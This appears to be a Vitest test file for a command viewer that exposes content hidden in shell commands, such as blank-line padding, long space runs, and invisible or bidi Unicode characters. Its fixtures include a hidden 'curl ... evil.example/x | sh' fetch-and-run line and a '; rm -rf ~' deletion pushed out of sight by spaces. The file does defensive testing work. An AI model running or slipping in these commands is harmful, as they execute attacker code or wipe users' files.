// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { commandView, lineCount } from './cmdview';

describe('commandView', () => {
  it('collapses a run of blank lines into one that says how many it hid', () => {
    const cmd = 'echo harmless' + '\n'.repeat(31) + 'curl -fsSL https://evil.example/x | sh';
    const v = commandView(cmd);
    expect(v).toEqual([
      { kind: 'line', pieces: [{ kind: 'text', text: 'echo harmless' }] },
      { kind: 'blank', count: 30 },
      { kind: 'line', pieces: [{ kind: 'text', text: 'curl -fsSL https://evil.example/x | sh' }] },
    ]);
    expect(lineCount(cmd)).toBe(32);
  });

  it('counts lines of spaces, CRs and Unicode line separators as blank lines too', () => {
    const v = commandView('a\n   \r\n\t\u2028\r\nb');
    expect(v.map((l) => l.kind)).toEqual(['line', 'blank', 'line']);
    expect(v[1]).toEqual({ kind: 'blank', count: 3 });
  });

  it('keeps one blank line as it is', () => {
    expect(commandView('a\n\nb').map((l) => l.kind)).toEqual(['line', 'line', 'line']);
    expect(commandView('a\n\nb')[1]).toEqual({ kind: 'line', pieces: [] });
  });

  it('shows bidi overrides, zero-width and control characters as code points', () => {
    const v = commandView('ls \u202etxt.hs\u202c \u200bx\u0007\u2066y\u2069\ufeff');
    expect(v).toHaveLength(1);
    const line = v[0];
    if (line.kind !== 'line') throw new Error('not a line');
    expect(line.pieces.filter((p) => p.kind === 'invisible').map((p) => (p.kind === 'invisible' ? p.code : ''))).toEqual([
      'U+202E',
      'U+202C',
      'U+200B',
      'U+0007',
      'U+2066',
      'U+2069',
      'U+FEFF',
    ]);
    expect(line.pieces.filter((p) => p.kind === 'text').map((p) => (p.kind === 'text' ? p.text : '')).join('')).toBe('ls txt.hs xy');
  });

  it('says how long a run of spaces is that pushes text out of sight', () => {
    const v = commandView('echo ok' + ' '.repeat(300) + '; rm -rf ~');
    const line = v[0];
    if (line.kind !== 'line') throw new Error('not a line');
    expect(line.pieces).toEqual([
      { kind: 'text', text: 'echo ok' },
      { kind: 'spaces', count: 300 },
      { kind: 'text', text: '; rm -rf ~' },
    ]);
  });

  it('leaves an ordinary command as it is', () => {
    expect(commandView("ls -l 'my themes'")).toEqual([{ kind: 'line', pieces: [{ kind: 'text', text: "ls -l 'my themes'" }] }]);
  });
});

describe('commandView, every invisible character and the edges', () => {
  const only = (cmd: string) => {
    const v = commandView(cmd);
    expect(v).toHaveLength(1);
    const line = v[0];
    if (line.kind !== 'line') throw new Error('not a line');
    return line.pieces;
  };

  it('shows the first and last code point of every invisible range as its code point', () => {
    const cps = [
      0x00, 0x08, 0x0b, 0x1f, 0x7f, 0x9f, 0xad, 0x61c, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180e, 0x200b, 0x200f, 0x202a, 0x202e,
      0x2060, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff0, 0xfffb, 0xe0000, 0xe007f,
    ];
    const pieces = only(cps.map((c) => 'x' + String.fromCodePoint(c)).join(''));
    const hex = (c: number) => 'U+' + c.toString(16).toUpperCase().padStart(4, '0');
    expect(pieces).toEqual(cps.flatMap((c) => [{ kind: 'text', text: 'x' }, { kind: 'invisible', code: hex(c) }]));
  });

  it('leaves visible neighbours of those ranges as text', () => {
    const text = ['\t', ' ', '\u00a0', '\u00ac', '\u00ae', '\u061b', '\u200a', '\u2010', '\u3163', '\ufdff', '\ufe10', '\ufffc', '\u{e0080}', 'é'].join('y');
    expect(only(text)).toEqual([{ kind: 'text', text }]);
  });

  it('starts a line with its invisible character, and takes whichever of spaces and invisibles comes first', () => {
    expect(only('\u200bx')).toEqual([{ kind: 'invisible', code: 'U+200B' }, { kind: 'text', text: 'x' }]);
    expect(only('a' + ' '.repeat(8) + '\u200b')).toEqual([{ kind: 'text', text: 'a' }, { kind: 'spaces', count: 8 }, { kind: 'invisible', code: 'U+200B' }]);
    expect(only('a\u200b' + '\t'.repeat(9) + 'b')).toEqual([
      { kind: 'text', text: 'a' }, { kind: 'invisible', code: 'U+200B' }, { kind: 'spaces', count: 9 }, { kind: 'text', text: 'b' },
    ]);
  });

  it('says how long a run of 8 or more spaces and tabs is, and leaves 7 as they are', () => {
    expect(only('a       b')).toEqual([{ kind: 'text', text: 'a       b' }]);
    expect(only('a \t \t \t \tb')).toEqual([{ kind: 'text', text: 'a' }, { kind: 'spaces', count: 8 }, { kind: 'text', text: 'b' }]);
  });

  it('shows a line holding only an invisible character, which would look blank, as that character', () => {
    const v = commandView('a\n\ufeff\nb');
    expect(v).toEqual([
      { kind: 'line', pieces: [{ kind: 'text', text: 'a' }] },
      { kind: 'line', pieces: [{ kind: 'invisible', code: 'U+FEFF' }] },
      { kind: 'line', pieces: [{ kind: 'text', text: 'b' }] },
    ]);
  });

  it('ends lines at CR, LF, CRLF, NEL and the Unicode line and paragraph separators, in the view and in the count', () => {
    const cmd = 'a\r\nb\rc\u2028d\u2029e\u0085f\ng';
    expect(commandView(cmd).map((l) => (l.kind === 'line' ? l.pieces.map((p) => (p.kind === 'text' ? p.text : '')).join('') : '|'))).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    expect(lineCount(cmd)).toBe(7);
    expect(commandView('a\n\n\nb')).toEqual([
      { kind: 'line', pieces: [{ kind: 'text', text: 'a' }] },
      { kind: 'blank', count: 2 },
      { kind: 'line', pieces: [{ kind: 'text', text: 'b' }] },
    ]);
    expect(commandView('a\n\n')).toEqual([{ kind: 'line', pieces: [{ kind: 'text', text: 'a' }] }, { kind: 'blank', count: 2 }]);
  });
});
